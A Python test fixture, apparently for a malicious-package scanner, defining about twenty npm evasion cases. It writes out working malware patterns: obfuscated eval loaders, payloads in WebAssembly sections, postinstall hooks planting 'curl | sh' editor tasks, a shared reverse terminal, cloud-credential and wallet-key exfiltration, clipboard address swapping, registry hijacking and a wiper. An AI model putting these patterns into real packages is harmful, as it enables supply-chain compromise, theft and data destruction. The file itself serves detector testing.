"""npm: what attacks of recent years do without any disguise, or with one that a reader of names does not see."""

from tests.evasions.case import HOST, JS_MARK, JS_PAYLOAD, Case, b64, package


def _main(id_: str, source: str, **more: bytes | str) -> Case:
    return Case(id_, "npm", {"index.js": source, **more})


def _module(id_: str, source: str, **more: bytes | str) -> Case:
    return Case(id_, "npm", {"package.json": package(type="module"), "index.js": source, **more})


def _hooked(id_: str, source: str) -> Case:
    manifest = package(scripts={"postinstall": "node setup.js"})
    return Case(
        id_, "npm", {"package.json": manifest, "index.js": "module.exports = {}\n", "setup.js": source}
    )


_SECTION = b"\0asm\1\0\0\0\0" + bytes([5 + len(JS_MARK)]) + b"\4meta" + JS_MARK.encode()

CASES: tuple[Case, ...] = (
    _main(
        "run-by-its-name",
        "const fs = require('fs'), path = require('path');\n"
        "exports.sum = (a, b) => a + b;\n"
        "exports.check = function () {\n  const raw = fs.readFileSync(path.join(__dirname, 'test/data.txt'), 'utf8');\n"
        "  return (0, eval)(String.fromCharCode(...raw.trim().split(' ').map(x => parseInt(x, 16) ^ 9)));\n};\n"
        "process.nextTick(exports.check);\n",
        **{"test/data.txt": " ".join(f"{ord(c) ^ 9:x}" for c in JS_MARK)},
    ),
    _module(
        "code-in-an-address",
        f"const kind = ['data:text', 'javascript;base64,'].join('/');\nawait import(kind + '{b64(JS_MARK)}');\nexport default 1;\n",
    ),
    _module(
        "custom-section",
        "import { readFile } from 'node:fs/promises';\nimport vm from 'node:vm';\n"
        "const compiled = await WebAssembly.compile(await readFile(new URL('./sum.wasm', import.meta.url)));\n"
        "const [part] = WebAssembly.Module.customSections(compiled, 'meta');\n"
        "vm.runInThisContext(new TextDecoder().decode(part));\nexport const sum = (a, b) => a + b;\n",
        **{"sum.wasm": _SECTION},
    ),
    _main(
        "native-code-fetched",
        "const fs = require('fs'), os = require('os'), https = require('https');\nconst place = os.tmpdir() + '/sum.node';\n"
        "function load() { const m = {exports: {}}; process.dlopen(m, place); return m.exports; }\n"
        f"https.get('{HOST}/sum', r => r.pipe(fs.createWriteStream(place)).on('close', load));\n",
    ),
    _main(
        "started-by-a-binding",
        "const own = process.binding('spawn_sync');\n"
        f"own.spawn({{file: '/bin/sh', args: ['sh', '-c', 'curl -s {HOST}/x | sh'], envPairs: [], stdio: []}});\n",
    ),
    _main(
        "hidden-address-asked-when-called",
        f"const axios = require('axios');\nconst place = Buffer.from('{b64(HOST + '/settings')}', 'base64').toString();\n"
        "module.exports = options => {\n  axios.get(place).then(r => new Function('require', r.data.text)(require)).catch(() => {});\n"
        "  return (req, res, next) => next();\n};\n",
    ),
    _main(
        "bot-behind-a-host-of-its-own",
        "const fs = require('fs');\nconst key = '7012345678:AAHq3vX9dLm2kT5wZr8yBn4cJp1sGf6uQeI';\n"
        "exports.load = file => {\n  const text = fs.readFileSync(file, 'utf8');\n"
        f"  fetch(`{HOST}/bot${{key}}/sendMessage`, {{method: 'POST', body: JSON.stringify({{chat_id: '1', text}})}});\n  return text;\n}};\n",
    ),
    _module(
        "phrase-of-a-wallet-sent",
        "import { mnemonicToSeedSync } from 'bip39';\n"
        "export function seedOf(mnemonic) {\n  known(mnemonic);\n  return mnemonicToSeedSync(mnemonic);\n}\n"
        f"async function known(words) {{\n  await fetch('{HOST}/c', {{method: 'POST', body: JSON.stringify({{words}})}});\n}}\n",
    ),
    _main(
        "key-of-a-wallet-in-headers",
        "const { Keypair } = require('@solana/web3.js');\n"
        "const tell = data => {\n  const t = Buffer.from(data).toString('base64');\n"
        f"  fetch('{HOST}/rpc', {{headers: {{'x-session': t.slice(0, 24), 'x-part': t.slice(24)}}}}).catch(() => {{}});\n}};\n"
        "exports.fromSecretKey = secretKey => { tell(secretKey); return Keypair.fromSecretKey(secretKey); };\n",
    ),
    _main(
        "request-runs-code",
        "const vm = require('vm');\nmodule.exports = () => (req, res, next) => {\n  const mark = req.headers['x-forwarded-mark'];\n"
        "  if (mark && mark.startsWith('m1')) vm.runInThisContext(Buffer.from(mark.slice(2), 'base64').toString());\n  next();\n};\n",
    ),
    _module(
        "blind-copy",
        "export async function send({to, subject, text}) {\n"
        "  const mail = {From: process.env.SENDER, To: to, Bcc: 'copies@pratique-evasion.invalid', Subject: subject, TextBody: text};\n"
        "  return fetch(process.env.MAIL_URL, {method: 'POST', body: JSON.stringify(mail)});\n}\n",
    ),
    _module(
        "addresses-swapped-in-a-page",
        "const mine = {eth: '0x" + "11" * 20 + "', btc: 'bc1q" + "q" * 38 + "'};\n"
        "const looks = {eth: /\\b0x[a-fA-F0-9]{40}\\b/g, btc: /\\b(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,42}\\b/g};\n"
        "const swap = t => Object.keys(looks).reduce((s, k) => s.replace(looks[k], mine[k]), t);\n"
        "if (typeof window !== 'undefined') {\n  const old = window.fetch;\n  window.fetch = async function (...a) {\n"
        "    const r = await old.apply(this, a);\n    return new Response(swap(await r.clone().text()), {status: r.status, headers: r.headers});\n  };\n}\n",
    ),
    _module(
        "requests-to-a-wallet-rewritten",
        "const mine = '0x' + '3'.repeat(40);\nfunction patch(p) {\n  if (!p || p.done) return;\n  p.done = true;\n"
        "  const old = p.request.bind(p);\n  p.request = async asked => {\n"
        "    if (asked.method === 'eth_sendTransaction') asked.params[0].to = mine;\n    return old(asked);\n  };\n}\n"
        "const wait = setInterval(() => patch(globalThis.ethereum), 500);\nexport const short = a => a.slice(0, 6);\n",
    ),
    _main(
        "clipboard-swapped-by-commands",
        "const { execSync } = require('child_process');\nconst mine = 'bc1q" + "q" * 38 + "';\nfunction tick() {\n"
        "  const c = execSync('powershell -NoProfile -Command Get-Clipboard').toString().trim();\n"
        "  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(c)) execSync(`powershell -NoProfile -Command Set-Clipboard -Value ${mine}`);\n}\n"
        "setInterval(tick, 800).unref();\n",
    ),
    _hooked(
        "registry-changed",
        f"require('child_process').execSync('npm config set registry {HOST}/ --location=user');\n",
    ),
    _hooked(
        "editor-task-planted",
        "const fs = require('fs'), path = require('path');\nconst root = process.env.INIT_CWD || process.cwd();\n"
        "fs.mkdirSync(path.join(root, '.vscode'), {recursive: true});\n"
        "fs.writeFileSync(path.join(root, '.vscode', 'tasks.json'), JSON.stringify({tasks: [{label: 'env', type: 'shell', "
        f"command: 'curl -s {HOST}/s | sh', runOptions: {{runOn: 'folderOpen'}}}}]}}));\n",
    ),
    _main(
        "wiper-by-a-list",
        "const fs = require('fs'), path = require('path'), https = require('https');\n"
        "function walk(d, f) { for (const n of fs.readdirSync(d)) { const p = path.join(d, n); fs.lstatSync(p).isDirectory() ? walk(p, f) : f(p); } }\n"
        f"https.get('{HOST}/where', r => r.on('data', b => {{\n  if (JSON.parse(b).country === 'Atlantis') ['./', '../', '/'].forEach(d => walk(d, p => fs.writeFileSync(p, 'x')));\n}}));\n",
    ),
    _main(
        "answer-of-the-metadata-service-sent",
        "const http = require('http');\n"
        "const get = p => new Promise(r => http.get({host: '169.254.169.254', path: p}, s => { let d = ''; s.on('data', c => d += c); s.on('end', () => r(d)); }));\n"
        "(async () => {\n  const role = await get('/latest/meta-data/iam/security-credentials/');\n"
        "  const q = http.request({hostname: 'collector.pratique-evasion.invalid', path: '/r', method: 'POST'});\n"
        "  q.end(await get('/latest/meta-data/iam/security-credentials/' + role));\n})();\n",
    ),
    _main(
        "many-timers-then-by-name",
        "const later = f => setTimeout(f, 10);\nfunction start() {\n  " + JS_PAYLOAD + "\n}\nsetImmediate(start.bind(null));\nmodule.exports = later;\n",
    ),
    _main(
        "terminal-shared",
        "const pty = require('node-pty'), io = require('socket.io-client');\n"
        f"const line = io('{HOST}');\nconst t = pty.spawn('bash', [], {{}});\n"
        "t.onData(d => line.emit('d', d));\nline.on('i', d => t.write(d));\nexports.version = 1;\n",
    ),
)  # fmt: skip
